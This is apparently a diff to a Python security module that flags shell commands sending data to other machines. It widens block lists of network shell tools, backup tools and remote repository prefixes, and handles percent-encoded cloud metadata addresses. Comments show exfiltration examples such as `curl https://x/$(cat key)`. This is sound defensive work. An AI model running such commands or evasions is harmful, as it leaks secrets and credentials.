@@ -12,13 +12,15 @@ import ipaddress
 import re
 import socket
 import unicodedata
+import urllib.parse
 
 from atlas.trust.command_words import arguments
 from atlas.trust.normalise import SUBSTITUTION, Part
 
 Found = tuple[str, str]
 
-SOCKET_TOOLS = {"nc", "ncat", "netcat", "socat", "telnet", "ssh-copy-id", "sshpass",
+SOCKET_TOOLS = {"nc", "ncat", "netcat", "socat", "telnet", "ssh-copy-id", "sshpass", "pwncat",
+                "pwncat-cs", "sshuttle", "cryptcat", "autossh", "dbclient", "plink",
                 "mosh", "ftp", "lftp", "tftp", "sftp", "scp", "smbclient", "websocat", "wscat"}  # fmt: skip
 MAIL_TOOLS = {"mail", "mailx", "sendmail", "mutt", "msmtp", "swaks", "s-nail", "neomutt"}
 PUBLISH = {
@@ -38,6 +40,11 @@ HTTPIE = {"http", "https", "xh", "xhs"}
 # spliced into one (`curl https://x/$(cat key)`, `dig $(cat key).x.example`) is sent out.
 CARRIERS = {"curl", "wget", "dig", "nslookup", "host", "drill", "ping", "ping6", "traceroute",
             "whois", *HTTPIE}  # fmt: skip
+URL_CARRIERS = {"git", "pip", "pip3", "npm", "go", "docker", "podman", "uv", "cargo", "gem"}
+# Backup tools given a remote repository (`sftp:`, `ssh://`, `s3:`, `rclone:`, `b2:`, `rest:`).
+BACKUP_TOOLS = {"restic", "borg", "duplicity", "rdiff-backup", "kopia", "duplicacy", "bup"}
+REMOTE_REPOSITORY = ("sftp:", "ssh://", "s3:", "rclone:", "b2:", "rest:", "azure:", "gs:",
+                     "swift:", "ftp://", "scp://", "webdav", "boto3+s3://", "gdrive:")  # fmt: skip
 CLOUD_READS = ("ls", "list", "describe", "get", "help", "--help", "--version", "version",
                "lsd", "lsf", "lsl", "size", "cat", "show", "info", "whoami")  # fmt: skip
 # Infrastructure tools whose these subcommands act on a remote cluster or cloud account.
@@ -89,16 +96,18 @@ def sends_out(part: Part) -> Found | None:
         return "mail", f"{head} sends mail"
     if any(w.startswith(("/dev/tcp/", "/dev/udp/")) for w in words):
         return "socket", "opens a network connection through /dev/tcp"
+    if head in BACKUP_TOOLS and any(REMOTE_REPOSITORY_RE.search(w) for w in words[1:]):
+        return "backup", f"{head} copies to a remote repository"
     if head == "git" and (reason := _git_elsewhere(words)):
         return "git", reason
-    if head == "autossh" and _ssh_destination(["ssh", *words[1:]]):
-        return "ssh", "autossh keeps an ssh connection to another machine open"
     if head == "ssh" and _ssh_destination(words):
         return "ssh", f"ssh to {_ssh_destination(words)} runs on, or sends to, another machine"
     if head == "rsync" and any(_remote(w) for w in arguments(part)):
         return "rsync", "rsync copies to or from a remote host"
     if head in CARRIERS and any(SUBSTITUTION in w for w in words[1:]):
         return "upload", f"{head} puts a command's output into what it sends"
+    if head in URL_CARRIERS and any(SUBSTITUTION in w and ("://" in w or "@" in w) for w in words):
+        return "upload", f"{head} puts a command's output into an address it reaches"
     if head in CARRIERS and {"xargs", "parallel"} & set(part.wrappers):
         return "upload", f"{head} puts what it is piped into what it sends"
     if head in ("curl", "wget", *HTTPIE) and _only_loopback(arguments(part)):
@@ -161,6 +170,11 @@ def _ssh_destination(words: list[str]) -> str | None:
                     rest.pop(0)  # the value is the next word
                 break
     return rest[0] if rest else None
+
+
+REMOTE_REPOSITORY_RE = re.compile(
+    "(?:^|[=@])(?:" + "|".join(re.escape(p) for p in REMOTE_REPOSITORY) + ")"
+)
 
 
 def _git_elsewhere(words: list[str]) -> str | None:
@@ -278,6 +292,8 @@ def code_sends(code: str) -> Found | None:
 def metadata_address(text: str) -> str | None:
     """A cloud metadata address named anywhere in `text` (any spelling a client would accept)."""
     text = unicodedata.normalize("NFKC", text).translate(DOTS)
+    if "%" in text:  # `http://%31%36%39.254.169.254/`: a client decodes the host first
+        text = text + " " + urllib.parse.unquote(text[:100_000])
     lowered = text.lower()
     for marker in ("://", "@"):
         start = lowered.find(marker)
